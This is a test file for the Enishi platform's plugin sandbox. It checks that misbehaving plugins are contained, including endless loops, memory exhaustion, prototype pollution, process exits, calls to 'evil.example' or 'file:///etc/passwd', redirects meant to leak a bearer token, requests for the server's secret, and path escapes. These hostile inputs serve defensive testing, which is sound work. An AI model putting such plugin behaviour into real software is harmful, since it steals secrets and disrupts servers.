/** Plugins that mean harm, or are merely wrong: what each of them may cost is a failed call and a line on its page. */
import { mkdir } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pino from 'pino'
import { afterAll, expect, test } from 'vitest'
import type { NodeContext, NodeType } from '../../platform/contract/plugin.ts'
import { readFaults } from '../../platform/plugins/plugin-state.ts'
import { openPlugins } from '../../platform/plugins/plugins.ts'
import { freshDatabase } from '../support/database.ts'
import { nodeCode, pluginCode, pluginFolder } from '../support/plugin-folder.ts'

const database = await freshDatabase()
const lines: string[] = []
const log = pino({ level: 'info' }, { write: (line: string) => void lines.push(line) })

async function opened(...named: string[]) {
  const secrets = { get: async (name: string) => `value of ${name}` }
  const taken = new Set(['record.update'])
  const plugins = await openPlugins({ database, log, dataFolder: '/nowhere', named, secrets, taken, bundled: false })
  afterAll(() => plugins.close())
  return plugins
}

/** A plugin with one node for each way to be wrong, and one that is right. */
async function withNodes(name: string, runs: Record<string, string>, before = '') {
  const nodes = Object.entries(runs).map(([word, run]) => nodeCode(`${name}.${word}`, run))
  const plugins = await opened(await pluginFolder(pluginCode(name, `nodes: [${nodes.join(',')}]`, before)))
  const host = plugins.hosts[0]!
  const run = (word: string, given = context()) =>
    Promise.resolve(host.plugin!.nodes!.find(({ type }) => type === `${name}.${word}`)!.run({}, given))
  return { plugins, host, run }
}

const context = (signal = new AbortController().signal): NodeContext => ({
  run: { id: 'r', workflow: 'w', version: 1, test: false },
  node: { id: 'n', type: 'x' },
  key: 'k',
  attempt: 1,
  signal,
  now: new Date(),
  locale: 'en',
  timeZone: 'UTC',
  record: null,
  records: {
    get: async () => ({ _id: '1', name: 'kept' }),
    find: () => new Promise(() => {}),
  } as unknown as NodeContext['records'],
  fetch: (async () => new Response('inside')) as unknown as typeof fetch,
  secret: async () => 'x',
  log: { info() {}, warn() {} },
})

/** The server is well: timers fire, and others' work goes on. */
async function isWell(): Promise<boolean> {
  const began = performance.now()
  await new Promise(resolve => setTimeout(resolve, 5))
  return performance.now() - began < 2_000
}

test('a loop without end is ended, and the next call is served', { timeout: 60_000 }, async () => {
  const { host, run, plugins } = await withNodes('loops', {
    hang: 'async () => { for (;;) {} }',
    fine: 'async () => ({ output: 1 })',
  })
  const hanging = run('hang')
  hanging.catch(() => {})
  for (let times = 0; times < 5; times++) expect(await isWell()).toBe(true)
  await expect(hanging).rejects.toMatchObject({ status: 503, code: 'plugin-failed' })
  expect(await run('fine')).toEqual({ output: 1 })
  expect(host.decided.on).toBe(true)
  await plugins.faults.flush()
  expect(await readFaults(database, 'loops')).toContainEqual(
    expect.objectContaining({ part: 'thread', message: expect.stringContaining('did not answer for 5 seconds') }),
  )
})

test('a promise that never settles is given up, and heard of no more', async () => {
  const { run } = await withNodes('never', {
    waits: '() => new Promise(() => {})',
    fine: 'async () => ({ output: 1 })',
  })
  const signal = AbortSignal.timeout(100)
  await expect(run('waits', context(signal))).rejects.toThrow('It was stopped')
  expect(await run('fine')).toEqual({ output: 1 })
})

test('a rejection that nobody hears, and an exception in a timer, do not end the server', async () => {
  const { run, plugins } = await withNodes('late', {
    rejects: `async () => { setTimeout(() => Promise.reject(new Error('too late')), 1); return {} }`,
    throws: `async () => { setTimeout(() => { throw new Error('from a timer') }, 1); return {} }`,
    fine: 'async () => ({ output: 1 })',
  })
  await run('rejects')
  await run('throws')
  const messages = async () => {
    await plugins.faults.flush()
    return (await readFaults(database, 'late')).map(({ message }) => message)
  }
  await expect.poll(messages).toEqual(expect.arrayContaining(['Error: too late', 'Error: from a timer']))
  expect(await run('fine')).toEqual({ output: 1 })
})

test('process.exit() and process.abort() end its thread, not the server', async () => {
  const { run } = await withNodes('exits', {
    exit: 'async () => { process.exit(1) }',
    abort: 'async () => { process.abort() }',
    fine: 'async () => ({ output: 1 })',
  })
  await expect(run('exit')).rejects.toMatchObject({ code: 'plugin-failed' })
  await expect(run('abort')).rejects.toThrow()
  expect(await run('fine')).toEqual({ output: 1 })
})

test('memory without bounds ends its thread, not the server', { timeout: 60_000 }, async () => {
  const { run } = await withNodes('eats', {
    eat: `async () => { const all = []; for (;;) all.push(new Array(100_000).fill(Math.random())) }`,
    fine: 'async () => ({ output: 1 })',
  })
  await expect(run('eat')).rejects.toMatchObject({ code: 'plugin-failed' })
  expect(await run('fine')).toEqual({ output: 1 })
})

test('what it hands back is bounded, and plain data', async () => {
  const { run } = await withNodes('large', {
    large: `async () => ({ output: 'x'.repeat(40 * 1024 * 1024) })`,
    many: `async () => ({ output: Array.from({ length: 300_000 }, (_, at) => ({ at })) })`,
    cyclic: `async () => { const output = {}; output.self = output; return { output } }`,
    code: `async () => ({ output: { run: () => process.exit(1) } })`,
    proto: `async () => ({ output: JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}') })`,
  })
  await expect(run('large')).rejects.toThrow('More than 32 MB')
  await expect(run('many')).rejects.toThrow('too many parts')
  await expect(run('cyclic')).rejects.toThrow('too many parts')
  await expect(run('code')).rejects.toThrow('function cannot be handed over')
  await run('proto')
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined()
})

test('what it changes of the language changes nothing here', async () => {
  const { run } = await withNodes(
    'pollutes',
    { fine: `async () => ({ output: {}.polluted === true ? 'there' : 'not' })` },
    `Object.defineProperty(Object.prototype, 'polluted', { value: true }); String.prototype.trim = () => 'mine'; process.env.PATH = 'mine'`,
  )
  expect(await run('fine')).toEqual({ output: 'there' })
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined()
  expect(' x '.trim()).toBe('x')
  expect(process.env['PATH']).not.toBe('mine')
})

test('a flood of lines costs a hundred of them a minute', async () => {
  const { run } = await withNodes('floods', {
    flood: `async (_, { log }) => { for (let line = 0; line < 100_000; line++) { log.info('flood ' + line); if (line % 10_000 === 0) console.log('x'.repeat(1000)) } return {} }`,
  })
  lines.length = 0
  await run('flood')
  expect(lines.filter(line => line.includes('floods')).length).toBeLessThanOrEqual(101)
})

test('more questions at once than two hundred are refused, and the others answered', async () => {
  const { run, host } = await withNodes('asks', {
    many: `async (_, { records }) => {
      const waiting = Array.from({ length: 1000 }, () => records.find('account', {}))
      const settled = await Promise.allSettled(waiting.map(each => Promise.race([each, new Promise(done => setTimeout(done, 200, 'open'))])))
      return { output: { refused: settled.filter(({ status }) => status === 'rejected').length, open: settled.filter(({ value }) => value === 'open').length } }
    }`,
  })
  await host.decide({ on: true, granted: { records: { account: ['read'] } }, settings: {} })
  expect(await run('many')).toEqual({ output: { refused: 800, open: 200 } })
})

test('a handle outlives its call by nothing', async () => {
  const { run, host } = await withNodes(
    'keeps',
    {
      keep: `async (_, context) => { kept = context; return {} }`,
      use: `async () => ({ output: await kept.records.get('account', '1').then(() => 'worked', error => error.message) })`,
    },
    'let kept',
  )
  await host.decide({ on: true, granted: { records: { account: ['read'] } }, settings: {} })
  await run('keep')
  expect(await run('use')).toEqual({ output: 'The call that this came with is over.' })
})

test('a host that was not granted is not called, nor by a redirect or another spelling', async () => {
  const asked: string[] = []
  const { run, host } = await withNodes('calls', {
    ...Object.fromEntries(
      [
        'https://evil.example/',
        'https://api.good.example.evil.example/',
        'https://good.example/',
        'file:///etc/passwd',
      ].map((url, at) => [`away${at}`, `async (_, { fetch }) => ({ output: await (await fetch('${url}')).text() })`]),
    ),
    redirected: `async (_, { fetch }) => ({ output: await (await fetch('https://api.good.example/', { headers: { authorization: 'Bearer x' } })).text() })`,
  })
  await host.decide({ on: true, granted: { hosts: ['*.good.example'] }, settings: {} })
  const given = {
    ...context(),
    fetch: (async (url: string) => {
      asked.push(url)
      return Response.redirect('https://evil.example/steal', 302)
    }) as unknown as typeof fetch,
  }
  for (let at = 0; at < 4; at++) await expect(run(`away${at}`, given)).rejects.toThrow('may')
  await expect(run('redirected', given)).rejects.toThrow('may not call evil.example')
  expect(asked).toEqual(['https://api.good.example/'])
})

test('after five failures in a row a part is left alone, and the others go on', async () => {
  const { host, run } = await withNodes('fails', {
    check: `async () => ({})`,
    fine: 'async () => ({ output: 1 })',
  })
  const checks = host.plugin!.nodes![0] as NodeType
  expect(() => checks.check?.({}, { entity: () => undefined, record: null })).not.toThrow()
  const folder = await pluginFolder(
    pluginCode(
      'trips',
      `nodes: [${nodeCode('trips.bad', 'async () => ({ output: 1 })', `check: () => { throw new Error('always') }`)}]`,
    ),
  )
  const trips = (await opened(folder)).hosts[0]!
  const bad = trips.plugin!.nodes![0] as NodeType
  const known = { entity: () => undefined, record: null }
  for (let times = 0; times < 5; times++) expect(() => bad.check!({}, known)).toThrow('always')
  expect(() => bad.check!({}, known)).toThrow('failed too often')
  expect(trips.resting()).toEqual([{ part: 'node trips.bad', until: expect.any(String) }])
  expect(await run('fine')).toEqual({ output: 1 })
})

test('a synchronous function that hangs holds the server for its deadline, and then no more', async () => {
  const folder = await pluginFolder(
    pluginCode('holds', `nodes: [${nodeCode('holds.on', 'async () => ({})', 'check: () => { for (;;) {} }')}]`),
  )
  const node = (await opened(folder)).hosts[0]!.plugin!.nodes![0] as NodeType
  const began = performance.now()
  for (let times = 0; times < 50; times++)
    expect(() => node.check!({}, { entity: () => undefined, record: null })).toThrow()
  // Five times half a second; the other 45 are refused by the breaker.
  expect(performance.now() - began).toBeLessThan(10_000)
})

const wrong: [string, string, string][] = [
  ['no plugin at all', 'export default 42', 'no plugin'],
  ['nothing', 'export const other = 1', 'no plugin'],
  ['a syntax error', 'export default {{{', 'SyntaxError'],
  ['TypeScript that does not erase', 'enum A { B } export default { name: "a" }', 'enum'],
  ['a missing file', `import './nowhere.ts'; export default {}`, 'nowhere.ts'],
  ['an import of the platform', `import { sql } from 'enishi/database'; export default {}`, 'enishi'],
  ['a name of the platform', pluginCode('record', ''), 'word of the platform'],
  [
    'a foreign name',
    pluginCode('mine', `nodes: [${nodeCode('other.node', 'async () => ({})')}]`),
    "begins with 'mine.'",
  ],
  [
    'two of a name',
    pluginCode('twins', `nodes: [${nodeCode('twins.a', '() => ({})')}, ${nodeCode('twins.a', '() => ({})')}]`),
    'two of the name',
  ],
  ['an unknown part', pluginCode('more', 'backdoor: true'), 'backdoor'],
  ['another version', pluginCode('old', `enishi: '>=99.0.0'`), 'is for Enishi >=99.0.0'],
  ['the server’s own secrets', pluginCode('spy', `rights: { secrets: ['ENISHI_SECRET'] }`), 'given to no plugin'],
  ['no host', pluginCode('hosts', `rights: { hosts: ['https://evil.example/x'] }`), 'is no host'],
  [
    'a definition that holds itself',
    `const p = { name: 'self', version: '1.0.0', title: { en: 'x' } }; Object.assign(p, { settings: p }); export default p`,
    'holds itself',
  ],
  ['a getter that throws', `export default { get name() { throw new Error('gotcha') } }`, 'gotcha'],
  ['a path out of its folder', pluginCode('paths', `packs: ['../../etc']`), 'packs'],
]
test.each(wrong)('%s is told on its page, and nothing of it runs', async (_, code, message) => {
  const { hosts, loaded } = await opened(await pluginFolder(code))
  expect(loaded).toEqual([])
  expect(hosts[0]!.problems.map(({ message }) => message).join(' ')).toContain(message)
})

test('a name that is taken is refused to the second', async () => {
  const [one, other] = [await pluginFolder(pluginCode('same', '')), await pluginFolder(pluginCode('same', ''))]
  const { hosts, loaded } = await opened(one, other)
  expect(loaded).toHaveLength(1)
  expect(hosts.flatMap(({ problems }) => problems)).toMatchObject([{ code: 'name-taken' }])
})

test('an import that never ends is given up', { timeout: 40_000 }, async () => {
  const { hosts, loaded } = await opened(await pluginFolder('for (;;) {}'))
  expect(loaded).toEqual([])
  expect(hosts[0]!.problems[0]!.message).toContain('longer than 10 seconds')
})

test('files, uploads and names from outside never become plugins', async () => {
  const data = join(tmpdir(), 'enishi-data-of-plugins')
  await mkdir(join(data, 'files', 'evil'), { recursive: true })
  const plugins = await openPlugins({
    database,
    log,
    dataFolder: data,
    named: ['node:fs', 'file:///etc', 'https://evil.example/x.js', 'data:text/javascript,1'],
    secrets: { get: async () => '' },
    bundled: false,
  })
  expect(plugins.loaded).toEqual([])
  expect(plugins.missing).toHaveLength(4)
  await plugins.close()
})
